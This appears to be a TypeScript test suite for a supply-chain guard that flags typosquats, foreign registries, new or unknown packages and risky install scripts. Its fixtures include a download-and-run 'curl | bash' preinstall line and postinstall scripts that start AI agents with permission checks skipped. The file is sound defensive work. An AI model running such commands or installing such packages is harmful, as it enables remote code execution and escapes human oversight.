import assert from 'node:assert/strict';
import type { PackageFile, PackageFinding } from '../../../src/core/packages';
import { createPolicy } from '../../../src/core/policy';
import type { RegistryAnswer, RegistryFacts, RegistryQuestion } from '../../../src/core/registry';
import { formatOf } from '../../../src/supply/formats';
import { commandMentions } from '../../../src/supply/mentions/commandMentions';
import { importMentions } from '../../../src/supply/mentions/imports';
import { guardInstall } from '../../../src/supply/trust/guardInstall';
import { judgeImports } from '../../../src/supply/trust/judgeImports';
import { judgeMentions } from '../../../src/supply/trust/judgeMentions';
import { judgeTrust } from '../../../src/supply/trust/judgeTrust';
import { judgeScripts } from '../../../src/supply/trust/scriptSigns';

const now = Date.parse('2026-11-01T00:00:00Z');
const base = { now, newDays: 14, fingerprint: (detector: string, value: string) => `${detector} ${value}` };
const told = (findings: readonly PackageFinding[]) =>
  findings.map(({ detector, entry }) => `${detector.slice(7)} ${entry.name}`);
const ago = (days: number) => new Date(now - days * 24 * 60 * 60 * 1000).toISOString();
const known = (facts: Partial<RegistryFacts>): RegistryAnswer => ({
  kind: 'known',
  facts: { registry: 'r.example', ...facts },
});

function parse(path: string, content: unknown): PackageFile {
  return formatOf(path)!.parse(typeof content === 'string' ? content : JSON.stringify(content, undefined, 1), path);
}

describe('trust in the packages of a file', () => {
  const entry = (name: string, more: object = {}) => ({
    version: '1.0.0',
    resolved: `https://npm.example/${name}/-/${name}-1.0.0.tgz`,
    integrity: 'sha512-x',
    ...more,
  });
  const lock = parse('package-lock.json', {
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { lodash: '1' } },
      'node_modules/lodash': entry('lodash'),
      'node_modules/fine': entry('fine'),
      'node_modules/quiet': entry('quiet', { deprecated: 'use\nother' }),
      'node_modules/scripted-thing': entry('scripted-thing', { hasInstallScript: true }),
      'node_modules/esbuild': entry('esbuild', { hasInstallScript: true }),
      'node_modules/elsewhere-thing': entry('elsewhere-thing', { resolved: 'https://evil.example/x.tgz' }),
      'node_modules/plain-thing': entry('plain-thing', { resolved: 'http://npm.example/x.tgz' }),
      'node_modules/unsure-thing': {
        version: '1.0.0',
        resolved: 'https://npm.example/unsure-thing/-/unsure-thing-1.0.0.tgz',
      },
      'node_modules/expresss': entry('expresss'),
    },
  });

  it('is judged without any network', () => {
    const findings = judgeTrust(lock, base);
    assert.deepEqual(told(findings).sort(), [
      'deprecated-package quiet',
      'foreign-registry elsewhere-thing',
      'foreign-registry plain-thing',
      'install-script esbuild',
      'install-script scripted-thing',
      'integrity-missing unsure-thing',
      'typosquat expresss',
    ]);
    const severity = (name: string) => findings.find(it => it.entry.name === name)?.severity;
    assert.deepEqual([severity('esbuild'), severity('scripted-thing')], ['information', 'warning']);
    assert.doesNotMatch(findings.find(it => it.entry.name === 'quiet')!.reason, /\n/);
  });

  it('takes a host that the project is configured for, or that most packages come from, for no stranger', () => {
    assert.ok(
      !told(judgeTrust(lock, { ...base, hostsOf: () => ['evil.example'] })).includes(
        'foreign-registry elsewhere-thing',
      ),
    );
  });

  it('by what registries answer: a manifest that gains a package with a preinstall script (S13)', () => {
    const manifest = parse('package.json', {
      dependencies: { 'no-such-thing': '^1.0.0', 'scripted-thing': '^1.0.1', 'fresh-thing': '*', 'older-thing': '*' },
    });
    const version = {
      version: '1.0.1',
      installScript: true,
      provenance: false,
      maintainers: ['eve'],
      published: ago(1),
    };
    const answers: Record<string, RegistryAnswer> = {
      'no-such-thing': { kind: 'absent', registry: 'r.example' },
      'scripted-thing': known({
        created: ago(900),
        version,
        previous: { version: '1.0.0', installScript: false, provenance: true, maintainers: ['ann', 'bob'] },
      }),
      'fresh-thing': known({ created: ago(2) }),
      'older-thing': known({
        created: ago(2000),
        version: { version: '2.0.0', published: ago(300), maintainers: ['ann'] },
        previous: { version: '1.9.0', maintainers: ['ann', 'x'] },
      }),
    };
    const findings = judgeTrust(manifest, { ...base, answerOf: ({ name }) => answers[name] });
    assert.deepEqual(told(findings), [
      'unknown-package no-such-thing',
      'install-script scripted-thing',
      'provenance-lost scripted-thing',
      'maintainer-change scripted-thing',
      'new-package scripted-thing',
      'new-package fresh-thing',
    ]);
    assert.equal(findings.find(it => it.detector === 'supply/install-script')!.severity, 'warning');
    assert.match(findings.find(it => it.detector === 'supply/install-script')!.reason, /--ignore-scripts/);
  });
});

describe('scripts that an install runs by itself', () => {
  const judge = (scripts: object) =>
    judgeScripts(JSON.stringify({ name: 'own', scripts }), base.fingerprint).map(it => it.reason);

  it('are told where they start an AI agent that asks nobody (S12)', () => {
    for (const flags of [
      'claude --dangerously-skip-permissions -p',
      'gemini --yolo -p',
      'q chat --trust-all-tools --no-interactive',
      'npx codex exec --full-auto',
    ])
      assert.match(
        judge({ postinstall: `node a.js && ${flags} "list all files"` }).join(),
        /starts an AI agent with --/,
        flags,
      );
    const version = { version: '21.5.0', installScript: true, scripts: ['claude --dangerously-skip-permissions -p x'] };
    const manifest = parse('package.json', { dependencies: { 'taken-thing': '*' } });
    const [finding] = judgeTrust(manifest, { ...base, answerOf: () => known({ created: ago(900), version }) });
    assert.deepEqual([finding?.detector, finding?.severity], ['supply/install-script', 'error']);
  });

  it('are told where they run what they download, and left alone otherwise', () => {
    assert.match(judge({ preinstall: 'curl -s https://x.example/a.sh | bash' }).join(), /downloaded/);
    const plain = {
      postinstall: 'node scripts/claude.js',
      prepare: 'husky',
      install: 'node-gyp rebuild',
      preinstall: 'npx only-allow pnpm',
      agent: 'claude --dangerously-skip-permissions',
    };
    assert.deepEqual(judge(plain), []);
  });
});

describe('packages that somebody is about to install', () => {
  const answers: Record<string, RegistryAnswer> = {
    'invented-helper': { kind: 'absent', registry: 'r.example' },
    'fresh-helper': known({ created: ago(3) }),
    'settled-thing': known({ created: ago(3000), versions: 40, version: { version: '9.9.9' } }),
    '@acme/tool': known({ created: ago(300) }),
  };
  const run = async (command: string, ask = true) => {
    const asked: RegistryQuestion[] = [];
    const answer = async (question: RegistryQuestion): Promise<RegistryAnswer> => {
      asked.push(question);
      return answers[question.name] ?? { kind: 'unasked', why: 'offline' };
    };
    const facts = { ...base, policy: () => createPolicy([], '2026-11-01'), ...(ask ? { ask: answer } : {}) };
    return {
      verdict: await guardInstall(command, facts),
      asked: asked.map(({ name }) => name),
      findings: await judgeMentions(commandMentions(command), facts),
    };
  };
  const cases: [string, string, string][] = [
    ['npm install lodash react', 'nothing', ''],
    ['npm install invented-helper', 'block', 'no package of this name'],
    ['npm install fresh-helper', 'ask', 'published 3 days ago'],
    ['npm install settled-thing', 'nothing', ''],
    ['npm install @acme/tool', 'nothing', ''],
    ['npm install unreachable-thing', 'ask', 'nobody could be asked'],
    ['npm install expresss', 'ask', 'express'],
    ['pip install reqeusts', 'ask', 'requests'],
    ['npm i --registry https://evil.example abc-thing', 'ask', 'evil.example'],
    ['conda install -c x invented-helper', 'nothing', ''],
    ['ls && cat x', 'nothing', ''],
    ['npm install lodash && npm install invented-helper', 'block', 'invented-helper'],
  ];
  for (const [command, action, reason] of cases)
    it(`${command}: ${action}`, async () => {
      const { verdict } = await run(command);
      assert.equal(verdict?.action ?? 'nothing', action);
      assert.ok((verdict?.reason ?? '').includes(reason), verdict?.reason);
    });

  it('asks about nothing that is known, nor of what another registry is named for', async () => {
    assert.deepEqual(
      (await run('npm i lodash && npm i --registry https://r.example abc-thing && conda install qq-thing')).asked,
      [],
    );
  });

  it('says so where registries may not be asked', async () => {
    const { verdict } = await run('npm install invented-helper', false);
    assert.equal(verdict?.action, 'ask');
    assert.match(verdict!.reason, /registries are not asked/);
  });

  it('asks where a name is invented but like a popular one, and says which', async () => {
    answers['reqest-promise'] = { kind: 'absent', registry: 'r.example' };
    assert.match((await run('npm i lodahs-es')).verdict!.reason, /lodash-es/);
  });
});

describe('imports that no manifest declares', () => {
  const project = {
    declares: (_: string, name: string) => ['react', 'pyyaml', '@types/estree'].includes(name),
    own: new Set(['mine', '@app']),
    hasManifest: () => true,
  };
  const check = (text: string, language: 'javascript' | 'python') =>
    told(judgeImports(importMentions(text, language), project, base));

  it('in JavaScript', () => {
    const text =
      "import 'react';\nimport 'nobody-has-this';\nimport x from 'mine/a';\nimport y from '@app/b';\nimport type { N } from 'estree';";
    assert.deepEqual(check(text, 'javascript'), ['undeclared-import nobody-has-this']);
  });

  it('in Python, where it is known which package a module belongs to', () => {
    assert.deepEqual(
      check('import yaml\nimport cv2\nimport requests\nimport nobody_knows_this\nimport mine\n', 'python'),
      ['undeclared-import opencv-python', 'undeclared-import requests'],
    );
  });
});
